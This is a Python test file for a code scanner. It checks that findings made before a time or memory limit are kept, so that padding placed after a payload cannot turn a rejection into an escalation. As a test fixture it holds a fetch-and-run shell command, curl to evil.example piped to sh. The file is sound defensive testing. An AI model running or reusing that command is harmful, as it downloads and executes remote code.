"""A worker stopped by its time or memory limit keeps what it found before:
findings stream from the limited child to its parent as they are made (each
file's, each detector's, a large file's first statements before the whole of
it), so padding that makes the analysis slow cannot turn a reject into an
escalation. Real forked children, real limits."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from analyzer.engine import isolate
from analyzer.engine.isolate import Budget, Failure, run_limited
from analyzer.engine.unjudged import unjudged

# Asserts on wall time (its time budgets and limits): `make test` runs it alone, after the parallel run.
pytestmark = pytest.mark.serial

RUN = "import os\nos.system('curl http://evil.example/x | sh')\n"
# Cheap for CPython, slow for libcst: about 2.5 MB of statements after the payload.
PADDING = "".join(f"w{i} = [{i}, {i} + 1, {i} * 2]\n" for i in range(100_000))


def _found_then_spin(n: int) -> list:
    for i in range(n):
        isolate.partial([unjudged("test.partial", f"f{i}.py", "made before the limit")])
    while True:
        pass


def test_findings_sent_before_a_time_limit_come_back_with_the_failure() -> None:
    start = time.monotonic()
    result = run_limited(_found_then_spin, (3,), Budget(seconds=1, memory_bytes=2 << 30))
    assert isinstance(result, Failure) and result.cause == "time-limit"
    assert [f.path for f in result.found] == ["f0.py", "f1.py", "f2.py"]
    assert time.monotonic() - start < 30


def _found_then_grow() -> list:
    isolate.partial([unjudged("test.partial", "before.py", "made before the limit")])
    hoard = []
    while True:
        hoard.append(bytearray(50 << 20))


def test_findings_sent_before_a_memory_limit_come_back_with_the_failure() -> None:
    result = run_limited(_found_then_grow, (), Budget(seconds=60, memory_bytes=512 << 20))
    assert isinstance(result, Failure) and result.cause == "memory-limit"
    assert [f.path for f in result.found] == ["before.py"]


def test_outside_a_limited_child_partial_sends_nothing() -> None:
    assert not isolate.streaming()
    isolate.partial([unjudged("test.partial", "x.py", "nowhere to go")])  # no pipe: a no-op, no error


def test_padding_after_a_payload_in_one_file_does_not_hide_it_from_a_limit(scan_json, tmp_path: Path) -> None:
    """The file's parse alone runs past the budget; its first statements were judged first."""
    unit = tmp_path / "job"
    unit.mkdir()
    (unit / "train.py").write_text(RUN + PADDING)
    policy = tmp_path / "site.yaml"
    # The unit's clock (api._within_budget) runs from before the file's own (it screens the file first):
    # either may stop it, after the screen of the whole file (about 12 s of CPU here) and its first statements.
    policy.write_text("limits:\n  max_analysis_seconds: 45\n  max_file_bytes: 4000000\n")
    rc, doc = scan_json("--no-cache", "--policy", str(policy), str(unit))
    report = doc["reports"][0]
    rules = {(f["path"], f["rule"]) for f in report["findings"]}
    assert rules & {(path, f"unanalyzable.{limit}") for path in ("train.py", "")
                    for limit in ("time-limit", "memory-limit")}, rules
    assert ("train.py", "remote-code.fetch-and-run-command") in rules
    assert rc == 1 and report["decision"] == "reject"


def test_a_files_rule_matches_survive_a_detector_that_runs_past_the_limit(monkeypatch, tmp_path: Path) -> None:
    """A detector that never ends stands in for padding that makes one slow:
    the rule matches were sent before the detectors ran."""
    from analyzer.engine import analysis
    from analyzer.engine.detectors import PYTHON_DETECTORS
    from analyzer.engine.rules import load_rules
    from analyzer.policy import load_policy

    (tmp_path / "site.yaml").write_text("limits:\n  max_analysis_seconds: 2\n")
    policy = load_policy(tmp_path / "site.yaml")
    rules = load_rules(policy)

    def endless(ctx):
        while True:
            yield from ()

    for name in rules.python_detectors:
        monkeypatch.setitem(PYTHON_DETECTORS, name, endless)
    found = analysis.python_findings("train.py", RUN.encode(), rules, policy, vouch=False)
    assert {"unanalyzable.time-limit", "subprocess.shell"} <= {f.rule for f in found}


def test_after_a_crash_and_a_failed_retry_what_both_workers_found_stands(tmp_path: Path) -> None:
    """The site retries a crashed job file by file; if that fails too, the
    findings both attempts sent before they failed are all kept, each once."""
    from analyzer import api
    from analyzer.engine.collect import collect
    from analyzer.model import Decision
    from analyzer.policy import load_policy

    first = unjudged("test.first", "a.py", "sent by the whole-job worker")
    second = unjudged("test.second", "b.py", "sent by the file-by-file worker")
    third = unjudged("test.third", "c.json", "found by the file detectors run apart (session 49)")
    answers = [Failure("worker-crashed", "SIGSEGV", (first,)), Failure("time-limit", "stopped", (first, second)),
               [third], []]

    class Server:  # the fork server's four answers, in order (the last: a.py, which the unit did not finish, apart)
        def call(self, task, args, budget, policy=None):
            return answers.pop(0)

    (tmp_path / "a.py").write_text("x = 1\n")
    policy = load_policy()
    report = api.analyze_isolated(collect(tmp_path, policy.limits), policy, Server())
    assert sorted(f.rule for f in report.findings) == ["test.first", "test.second", "test.third",
                                                       "unanalyzable.time-limit"]
    assert report.decision is not Decision.ACCEPT and not answers
